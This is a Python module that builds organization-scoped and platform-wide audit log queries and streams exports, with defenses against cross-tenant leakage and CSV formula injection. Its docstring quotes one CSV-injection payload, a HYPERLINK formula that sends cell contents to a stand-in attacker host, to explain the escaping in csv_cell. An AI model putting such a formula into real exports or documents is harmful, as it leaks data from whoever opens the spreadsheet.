"""The audit log as pages and exports: an organization's (`org_events`) and the whole platform's
(`platform_events`, for the admin console only) [69][76].

Two things here are security properties, which is why they are core and not host code:

- **Scoping.** `org_events` is the only query an organization's log page or export uses, and its
  `org_id` comes from the caller's `OrgContext` (the membership the guard loaded), never from the
  request. Events of other organizations, and events that belong to no organization (sign-ins,
  password changes), never appear.
- **Formula safety.** A CSV export is opened in a spreadsheet, which runs a cell starting with
  `=`, `+`, `-`, `@`, a tab or a carriage return as a formula: a display name or user agent such as
  `=HYPERLINK("https://evil.example/?"&A1)` would leak data or worse. `csv_cell` prefixes such a
  cell with `'`, which spreadsheets show as text (OWASP's advice for CSV injection). JSON and NDJSON
  need no such care: their readers do not evaluate.

Exports are streamed (`export_stream`) on a connection of their own, a batch at a time, so a long
log never sits in memory and the request's session can close before the body is sent.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator, Iterable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any
from uuid import UUID

from sqlalchemy import Select, select
from sqlalchemy.ext.asyncio import AsyncEngine
from sqlalchemy.orm import aliased

from app.auth.core.models import AuditEvent, UserSecurityColumns
from app.auth.core.orgs import OrgContext

__all__ = (
    "EXPORT_COLUMNS",
    "EXPORT_FORMATS",
    "AuditFilter",
    "csv_cell",
    "event_fields",
    "export_stream",
    "org_events",
    "platform_events",
    "render_export",
    "stream_export",
)

EXPORT_FORMATS: Mapping[str, str] = {
    "csv": "text/csv; charset=utf-8",
    "json": "application/json",
    "ndjson": "application/x-ndjson",
}
"""Export formats and their media types."""

EXPORT_COLUMNS = (
    "seq",
    "occurred_at",
    "action",
    "outcome",
    "actor_id",
    "actor_email",
    "impersonator_id",
    "impersonator_email",
    "target_type",
    "target_id",
    "ip_address",
    "user_agent",
    "details",
)
"""The fields of an exported event, in column order."""

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_EVENT_COLUMNS = (
    AuditEvent.seq,
    AuditEvent.occurred_at,
    AuditEvent.action,
    AuditEvent.outcome,
    AuditEvent.actor_id,
    AuditEvent.impersonator_id,
    AuditEvent.target_type,
    AuditEvent.target_id,
    AuditEvent.ip_address,
    AuditEvent.user_agent,
    AuditEvent.details,
)
_BATCH = 500


@dataclass(frozen=True)
class AuditFilter:
    """Which of an organization's events to show: by actor, action prefix and time, newest first."""

    actor_id: UUID | None = None
    """Only events done by this person."""
    action: str = ""
    """Only actions equal to this or starting with it and a dot (`project` → `project.created`)."""
    since: datetime | None = None
    """Only events at or after this moment."""
    until: datetime | None = None
    """Only events before this moment."""
    before_seq: int | None = None
    """Only events older than this one (the next page of a keyset pagination)."""
    target_id: str = ""
    """Only events about this target (a user's id, a project's id...)."""
    outcome: str = ""
    """Only `success` or only `failure` events."""


def _events(users: type[UserSecurityColumns]) -> Select[Any]:
    impersonators = aliased(users)
    return (
        select(
            *_EVENT_COLUMNS,
            AuditEvent.org_id,
            users.email.label("actor_email"),
            impersonators.email.label("impersonator_email"),
        )
        .outerjoin(users, users.id == AuditEvent.actor_id)
        .outerjoin(impersonators, impersonators.id == AuditEvent.impersonator_id)
        .order_by(AuditEvent.seq.desc())
    )


def org_events(ctx: OrgContext, users: type[UserSecurityColumns], filters: AuditFilter) -> Select[Any]:
    """The caller's organization's events matching `filters`, newest first, with the actor's (and any
    impersonating admin's) address."""
    return _filtered(_events(users).where(AuditEvent.org_id == ctx.org_id), filters)


def platform_events(
    users: type[UserSecurityColumns], filters: AuditFilter, *, org_id: UUID | None = None
) -> Select[Any]:
    """Every event matching `filters` (optionally of one organization), newest first.

    Not scoped to anyone: only the admin console, behind `requires_platform_admin`, may use it.
    """
    query = _events(users)
    if org_id is not None:
        query = query.where(AuditEvent.org_id == org_id)
    return _filtered(query, filters)


def _filtered(query: Select[Any], filters: AuditFilter) -> Select[Any]:
    if filters.target_id:
        query = query.where(AuditEvent.target_id == filters.target_id)
    if filters.outcome:
        query = query.where(AuditEvent.outcome == filters.outcome)
    if filters.actor_id is not None:
        query = query.where(AuditEvent.actor_id == filters.actor_id)
    if filters.action:
        action = filters.action.strip(".")
        escaped = action.replace("\\", "\\\\").replace("%", "\\%").replace("_", "\\_")
        query = query.where(
            (AuditEvent.action == action) | AuditEvent.action.like(escaped + ".%", escape="\\")
        )
    if filters.since is not None:
        query = query.where(AuditEvent.occurred_at >= filters.since)
    if filters.until is not None:
        query = query.where(AuditEvent.occurred_at < filters.until)
    if filters.before_seq is not None:
        query = query.where(AuditEvent.seq < filters.before_seq)
    return query


def csv_cell(value: str) -> str:
    """`value` safe to open in a spreadsheet: a leading formula character is quoted away with `'`."""
    return "'" + value if value.startswith(_FORMULA_STARTS) else value


def event_fields(row: Any) -> dict[str, Any]:
    """One row of `org_events` as plain data, in `EXPORT_COLUMNS` order (times in UTC, ISO 8601)."""
    return {
        "seq": row.seq,
        "occurred_at": row.occurred_at.astimezone(UTC).isoformat(timespec="microseconds"),
        "action": row.action,
        "outcome": row.outcome,
        "actor_id": str(row.actor_id) if row.actor_id else None,
        "actor_email": row.actor_email,
        "impersonator_id": str(row.impersonator_id) if row.impersonator_id else None,
        "impersonator_email": row.impersonator_email,
        "target_type": row.target_type,
        "target_id": row.target_id,
        "ip_address": row.ip_address,
        "user_agent": row.user_agent,
        "details": row.details,
    }


def render_export(rows: Iterable[Mapping[str, Any]], fmt: str, *, first: bool, last: bool) -> str:
    """A chunk of an export: `rows` in `fmt`, with the header (`first`) and closing (`last`) it needs."""
    if fmt == "csv":
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator="\r\n")
        if first:
            writer.writerow(EXPORT_COLUMNS)
        for row in rows:
            writer.writerow([csv_cell(_csv_text(row[column])) for column in EXPORT_COLUMNS])
        return buffer.getvalue()
    if fmt == "ndjson":
        return "".join(_json(row) + "\n" for row in rows)
    if fmt == "json":
        items = [_json(row) for row in rows]
        body = ",\n".join(items)
        # Streamed chunk after chunk: every chunk but the first starts with the comma before its items.
        opening = "[\n" if first else (",\n" if items else "")
        return opening + body + ("\n]\n" if last else "")
    raise ValueError(f"unknown export format {fmt!r}")


async def export_stream(
    engine: AsyncEngine, ctx: OrgContext, users: type[UserSecurityColumns], filters: AuditFilter, fmt: str
) -> AsyncIterator[bytes]:
    """The caller's organization's events matching `filters` as an export, streamed in batches."""
    async for chunk in stream_export(engine, org_events(ctx, users, filters), fmt):
        yield chunk


async def stream_export(engine: AsyncEngine, events: Select[Any], fmt: str) -> AsyncIterator[bytes]:
    """The rows of `events` (`org_events` or `platform_events`) as an export, streamed in batches."""
    if fmt not in EXPORT_FORMATS:
        raise ValueError(f"unknown export format {fmt!r}")
    query = events.execution_options(yield_per=_BATCH)
    first = True
    async with engine.connect() as conn:
        result = await conn.stream(query)
        try:
            async for batch in result.partitions(_BATCH):
                chunk = render_export([event_fields(row) for row in batch], fmt, first=first, last=False)
                first = False
                if chunk:
                    yield chunk.encode()
        finally:
            await result.close()
    yield render_export([], fmt, first=first, last=True).encode()


def _json(row: Mapping[str, Any]) -> str:
    return json.dumps(row, ensure_ascii=False, separators=(",", ":"))


def _csv_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, dict | list):
        return json.dumps(value, ensure_ascii=False, sort_keys=True, separators=(",", ":"))
    return str(value)
